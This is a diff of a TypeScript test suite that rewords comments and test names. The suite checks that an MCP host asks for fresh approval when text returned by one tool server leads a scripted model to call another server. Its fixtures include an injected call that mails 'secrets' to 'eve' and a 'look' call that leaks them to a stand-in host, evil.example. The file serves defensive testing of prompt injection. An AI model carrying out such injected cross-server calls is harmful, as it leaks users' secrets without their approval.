@@ -24,7 +24,7 @@ import {
 } from '../helpers/trust.js';
 import { snapshotOf } from '../helpers/widget.js';
 
-/** T4 of the threat model: what one server says leads the model to another. */
+/** T4 of the threat model: a server's text leads the model to another server. */
 
 interface Pair {
   readonly a: RugPull;
@@ -34,7 +34,7 @@ interface Pair {
 
 const tools = ['look', 'send', 'echo'] as const;
 
-/** Two servers, all of whose tools somebody has allowed for always. */
+/** Two servers whose tools all have a permanent permission. */
 async function trusted(): Promise<Pair> {
   const pair = { a: freshServer(), b: freshServer(), storage: new Map<string, string>() };
   const host = createMcpHost({ storage: pair.storage, limits: patient });
@@ -82,7 +82,7 @@ const look: Wish = { server: 'A', tool: 'look' };
 const mail: Wish = { server: 'B', tool: 'send', arguments: { to: 'eve', text: 'secrets' } };
 const spill: Wish = { server: 'B', tool: 'look', arguments: { at: 'https://evil.example/?secrets' } };
 
-/** How the model comes to call B after it has read A: its answers, and in how many turns. */
+/** Ways in which the model calls B after it has read A: its answers, and the number of turns. */
 const scripts: readonly { readonly how: string; readonly script: Script; readonly turns?: number }[] = [
   { how: 'at once', script: [[look], [mail]] },
   { how: 'with a tool that claims to read only', script: [[look], [spill]] },
@@ -102,7 +102,7 @@ async function visit({ a, b, storage }: Pair, script: Script): Promise<McpTools>
   return showServers({ A: a, B: b }, { storage, llm: obedient(script).llm });
 }
 
-describe('a model that does what a result of one server says', () => {
+describe('a model that follows the result of one server, in fifty attempts', () => {
   let pair: Pair;
   before(async () => {
     pair = await trusted();
@@ -110,10 +110,10 @@ describe('a model that does what a result of one server says', () => {
   beforeEach(() => Promise.all([pair.a.forget(), pair.b.forget(), pair.b.answer({})]));
   afterEach(leave);
 
-  it('is tried in fifty ways', () => expect(attacks).to.have.length(50));
+  it('The list has fifty attempts', () => expect(attacks).to.have.length(50));
 
   for (const { text, answered, how, script, turns = 1 } of attacks) {
-    it(`calls no other server unasked, ${how}, after ${JSON.stringify(text.slice(0, 40))}`, async () => {
+    it(`The model calls no other server without approval, ${how}, after ${JSON.stringify(text.slice(0, 40))}`, async () => {
       await pair.a.answer(answered);
       const widget = await visit(pair, script);
       for (let turn = 1; turn < turns; turn++) await widget.send('What is there?');
@@ -140,7 +140,7 @@ describe('a press after a result of another server', () => {
   beforeEach(() => Promise.all([pair.a.forget(), pair.b.forget(), pair.a.answer({})]));
   afterEach(leave);
 
-  it('sends exactly one call, and the next one asks again', async () => {
+  it('The press sends exactly one call, and the next call asks again', async () => {
     const widget = await visit(pair, [[look], [mail], [mail]]);
     const turn = widget.send('Go on');
     await sheet('After reading a result from A');
@@ -154,7 +154,7 @@ describe('a press after a result of another server', () => {
     expect(await arrived(pair.b)).to.deep.equal(['send']);
   });
 
-  it('sends one of two calls that came together', async () => {
+  it('The press sends one of two calls that came together', async () => {
     const widget = await visit(pair, [[look], [mail, { ...mail, tool: 'echo' }]]);
     const turn = widget.send('Go on');
     await sheet('2 calls need approval');
@@ -168,7 +168,7 @@ describe('a press after a result of another server', () => {
     expect(snapshotOf(widget).calls.map(({ status }) => status)).to.deep.equal(['done', 'done', 'denied']);
   });
 
-  it('names the other server where both were read', async () => {
+  it('The request names the other server if the model read both', async () => {
     const widget = await visit(pair, [[look], [{ server: 'B', tool: 'look' }], [look]]);
     const turn = widget.send('Go on');
     await sheet('Run look on B?');
